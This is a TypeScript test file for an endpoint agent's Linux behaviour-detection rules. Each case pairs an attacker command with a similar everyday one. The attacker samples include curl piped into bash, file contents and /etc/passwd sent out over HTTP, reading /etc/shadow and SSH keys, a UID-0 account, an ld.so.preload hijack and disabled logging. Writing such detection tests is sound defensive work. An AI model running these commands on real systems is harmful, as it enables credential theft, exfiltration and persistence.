import { describe, expect, it } from "vitest";
import { Event, FileAction, ProcessAction } from "@vigil/proto";
import { compileBuiltinRules, DetectionEngine, toSigmaEvent, type Match } from "../../src/sigma";

/**
 * The built-in Linux behaviour rules (detection/rules/lnx_*.yml added for attack coverage): each
 * fires on the technique as intruders type it and stays quiet on the everyday command that looks
 * most like it. Command lines are what the kernel reports (argv joined, shell quoting gone).
 */
const ctx = { agentId: "a1", hostname: "web-1" };
const T0 = Date.UTC(2026, 11, 4);
let seq = 0;

function proc(exe: string, cmd: string, extra: Partial<{ ppid: number; parentExe: string; pid: number; t: number }> = {}): Event {
  return Event.fromPartial({
    seq: ++seq,
    eventTimeMs: extra.t ?? T0,
    body: {
      $case: "process",
      process: {
        action: ProcessAction.PROCESS_ACTION_START,
        exe,
        commandLine: cmd,
        user: "root",
        pid: extra.pid ?? 4000 + seq,
        ppid: extra.ppid ?? 100,
        parentExe: extra.parentExe ?? "/usr/bin/bash",
      },
    },
  });
}
function file(path: string, exe: string, action = FileAction.FILE_ACTION_MODIFY): Event {
  return Event.fromPartial({ seq: ++seq, eventTimeMs: T0, body: { $case: "file", file: { action, path, exe, pid: 4321 } } });
}

function titles(evs: Event[]): string[] {
  const { ruleset, errors } = compileBuiltinRules();
  expect(errors).toEqual([]);
  const engine = new DetectionEngine(ruleset);
  const out: Match[] = evs.flatMap((e) => engine.process(toSigmaEvent(e, ctx)!));
  out.push(...engine.flush());
  return [...new Set(out.map((m) => m.rule.title))];
}

const cases: Array<[title: string, fires: Event, quiet: Event]> = [
  ["Password Hash File Read From The Command Line", proc("/usr/bin/head", "head -n 3 /etc/shadow"), proc("/usr/bin/ls", "ls -l /etc/shadow")],
  ["Process Memory Read Through /proc", proc("/usr/bin/dd", "dd if=/proc/1234/mem of=/tmp/m bs=1 skip=4096"), proc("/usr/bin/cat", "cat /proc/self/maps")],
  ["Recursive Search For Passwords Or Secrets", proc("/usr/bin/grep", "grep -ri password /etc /home"), proc("/usr/bin/grep", "grep password README.md")],
  ["Stored Credential Files Searched Or Read", proc("/usr/bin/find", "find / -name .git-credentials"), proc("/usr/lib/git-core/git", "git credential-store --file /root/.git-credentials get")],
  ["Shell History File Read Or Changed From The Command Line", proc("/usr/bin/grep", "grep -e -p /root/.bash_history"), proc("/usr/bin/grep", "grep -e -p /root/notes.txt")],
  ["SSH Private Key Searched, Read Or Copied", proc("/usr/bin/cp", "cp /home/bob/.ssh/id_ed25519 /tmp/k"), proc("/usr/bin/cat", "cat /home/bob/.ssh/id_ed25519.pub")],
  ["SSH Private Key Searched, Read Or Copied", proc("/usr/bin/find", "find / -name id_rsa*"), proc("/usr/bin/ssh", "ssh -i /home/bob/.ssh/id_rsa host")],
  [
    "Raw Or Packet Socket Opened From A Script",
    proc("/usr/bin/python3", "python3 -c import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    proc("/usr/bin/python3", "python3 -c import socket; socket.socket()"),
  ],
  ["Shell Command Hook Set Through PROMPT_COMMAND", proc("/usr/bin/bash", "bash -c PROMPT_COMMAND='history -a >(logger)'"), proc("/usr/bin/bash", "bash -c history")],
  ["Virtualization Or Sandbox Check", proc("/usr/bin/grep", "grep -i hypervisor /proc/cpuinfo"), proc("/usr/bin/grep", "grep -i model /proc/cpuinfo")],
  ["Password Policy Read", proc("/usr/bin/cat", "cat /etc/pam.d/common-password"), proc("/usr/bin/cat", "cat /etc/pam.d/sshd")],
  ["Security Software Looked For In The Process List Or Services", proc("/usr/bin/grep", "grep -E falcon|osquery|auditd"), proc("/usr/bin/grep", "grep -E nginx|postgres")],
  ["Download Piped Straight Into An Interpreter", proc("/usr/bin/sh", "sh -c curl -s http://203.0.113.9/x | bash"), proc("/usr/bin/sh", "sh -c curl -s http://203.0.113.9/x | grep ok")],
  ["Python One-Liner Running Commands", proc("/usr/bin/python3", "python3 -c import os; os.system('id')"), proc("/usr/bin/python3", "python3 -c print(1)")],
  ["Transient Systemd Timer Scheduled", proc("/usr/bin/systemd-run", "systemd-run --on-calendar=*:0/5 /tmp/x"), proc("/usr/bin/systemd-run", "systemd-run --scope make")],
  ["Account Created Or Changed With UID 0 Or A Duplicate UID", proc("/usr/sbin/useradd", "useradd -o -u 0 -g 0 toor"), proc("/usr/sbin/useradd", "useradd -u 1001 alice")],
  ["Shell Startup File Changed", file("/root/.bashrc", "/usr/bin/bash"), file("/etc/profile.d/bash_completion.sh", "/usr/bin/dpkg")],
  ["Shell Startup File Written From A Command Line", proc("/usr/bin/sh", "sh -c echo /tmp/x >> ~/.bash_profile"), proc("/usr/bin/sh", "sh -c cat ~/.bash_profile")],
  ["Library Preloading Configured", proc("/usr/bin/sh", "sh -c echo /tmp/l.so > /etc/ld.so.preload"), proc("/usr/bin/ldd", "ldd /bin/ls")],
  ["System-Wide Preload File Written", file("/etc/ld.so.preload", "/usr/bin/bash", FileAction.FILE_ACTION_CREATE), file("/etc/ld.so.conf.d/x.conf", "/usr/bin/dpkg")],
  ["PAM Configuration Or Module Changed", file("/etc/pam.d/sshd", "/usr/bin/bash"), file("/etc/pam.d/sshd", "/usr/bin/dpkg")],
  ["File Securely Wiped", proc("/usr/bin/shred", "shred -u /tmp/x"), proc("/usr/bin/rm", "rm -f /tmp/x")],
  ["Scripting One-Liner Decodes Encoded Data", proc("/usr/bin/perl", "perl -MMIME::Base64 -e print decode_base64('aWQ=')"), proc("/usr/bin/perl", "perl -e print 1")],
  ["Hex Or Cipher Decoded Into A Shell", proc("/usr/bin/sh", "sh -c echo 6964 | xxd -r -p | sh"), proc("/usr/bin/sh", "sh -c xxd -r -p in.hex > out.bin")],
  ["Program Name Ends With A Space", proc("/tmp/readme.txt ", "/tmp/readme.txt "), proc("/usr/bin/true", "true")],
  ["Hidden Directory Created In A Temporary Directory", proc("/usr/bin/mkdir", "mkdir -p /var/tmp/.cache-x"), proc("/usr/bin/mkdir", "mkdir -p /tmp/.X11-unix")],
  ["Logging Or Security Service Stopped Or Disabled", proc("/usr/bin/systemctl", "systemctl stop rsyslog"), proc("/usr/bin/systemctl", "systemctl restart rsyslog")],
  ["Shell History Disabled", proc("/usr/bin/bash", "bash -c unset HISTFILE; id"), proc("/usr/bin/bash", "bash -c history | tail")],
  ["Logging Or Audit Configuration Changed", file("/etc/rsyslog.d/00-x.conf", "/usr/bin/bash", FileAction.FILE_ACTION_CREATE), file("/etc/rsyslog.d/00-x.conf", "/usr/bin/dpkg")],
  [
    "File Encrypted With A Passphrase On The Command Line",
    proc("/usr/bin/openssl", "openssl enc -aes-256-cbc -pass pass:x -in f -out f.enc"),
    proc("/usr/bin/openssl", "openssl enc -d -aes-256-cbc -in f.enc"),
  ],
  ["Encoded Data Sent With An HTTP Client", proc("/usr/bin/sh", "sh -c curl http://x/?d=$(cat f | base64)"), proc("/usr/bin/sh", "sh -c curl http://x/")],
  ["whois Used To Move Data", proc("/usr/bin/whois", "whois -h 203.0.113.5 -p 8443 x"), proc("/usr/bin/whois", "whois example.org")],
  ["HTTP Client Sends A Chosen User Agent", proc("/usr/bin/curl", "curl -A Mozilla/5.0 http://x/"), proc("/usr/bin/curl", "curl -s http://x/")],
  ["Data Written To A Remote Host Through An SSH Command", proc("/usr/bin/ssh", "ssh root@203.0.113.5 cat > /tmp/x.tgz"), proc("/usr/bin/ssh", "ssh root@203.0.113.5 uptime")],
  ["File Uploaded With An HTTP Client", proc("/usr/bin/curl", "curl -F file=@/etc/passwd http://x/upload"), proc("/usr/bin/curl", "curl -o /tmp/f http://x/f")],
  ["Ad Hoc Web Server Started From A Command Line", proc("/usr/bin/python3", "python3 -m http.server 8000"), proc("/usr/bin/python3", "python3 -m venv .venv")],
  ["Search For Root-Equivalent Accounts", proc("/usr/bin/grep", "grep x:0: /etc/passwd"), proc("/usr/bin/grep", "grep bob /etc/passwd")],
  ["Interpreter Runs A Script From A Temporary Directory", proc("/usr/bin/bash", "bash /tmp/x.sh"), proc("/usr/bin/python3", "python3 /tmp/pip-build-1/setup.py")],
  ["Local Account With A Login Shell Created", proc("/usr/sbin/useradd", "useradd -M -s /bin/bash evil"), proc("/usr/sbin/useradd", "useradd -r -s /usr/sbin/nologin svc")],
  ["Shell Trap Set To Run A Command", proc("/usr/bin/sh", "sh -c trap 'nohup /tmp/x &' EXIT; id"), proc("/usr/bin/sh", "sh -c echo trap")],
  ["Network Shares Listed", proc("/usr/sbin/showmount", "showmount -e 10.0.0.5"), proc("/usr/sbin/showmount", "showmount --version")],
];

describe("built-in Linux behaviour rules", () => {
  it.each(cases.map(([t, f, q], i) => [`${i}: ${t}`, t, f, q] as const))("%s", (_name, title, fires, quiet) => {
    expect(titles([fires])).toContain(title);
    expect(titles([quiet])).not.toContain(title);
  });

  it("a burst of three different discovery tools from one parent alerts once; the same tool three times or three parents do not", () => {
    const burst = [proc("/usr/bin/whoami", "whoami", { ppid: 7 }), proc("/usr/bin/uname", "uname -a", { ppid: 7 }), proc("/usr/bin/cat", "cat /etc/os-release", { ppid: 7 })];
    expect(titles(burst).filter((t) => t === "Burst Of Host Discovery Commands")).toHaveLength(1);
    const sameTool = [proc("/usr/bin/uname", "uname -a", { ppid: 8 }), proc("/usr/bin/uname", "uname -r", { ppid: 8 }), proc("/usr/bin/uname", "uname -m", { ppid: 8 })];
    expect(titles(sameTool)).not.toContain("Burst Of Host Discovery Commands");
    const spread = [proc("/usr/bin/whoami", "whoami", { ppid: 9 }), proc("/usr/bin/uname", "uname -a", { ppid: 10 }), proc("/usr/bin/id", "id", { ppid: 11 })];
    expect(titles(spread)).not.toContain("Burst Of Host Discovery Commands");
    const slow = [0, 70_000, 140_000].map((dt, i) => proc(["/usr/bin/whoami", "/usr/bin/uname", "/usr/bin/id"][i]!, "x", { ppid: 12, t: T0 + dt }));
    expect(titles(slow)).not.toContain("Burst Of Host Discovery Commands");
  });

  it("a ping sweep over three targets from one parent alerts; one host pinged three times does not", () => {
    const sweep = ["10.0.0.1", "10.0.0.2", "10.0.0.3"].map((ip) => proc("/usr/bin/ping", `ping -c 1 ${ip}`, { ppid: 20 }));
    expect(titles(sweep)).toContain("Ping Sweep");
    const same = [1, 2, 3].map(() => proc("/usr/bin/ping", "ping -c 1 10.0.0.1", { ppid: 21 }));
    expect(titles(same)).not.toContain("Ping Sweep");
  });
});
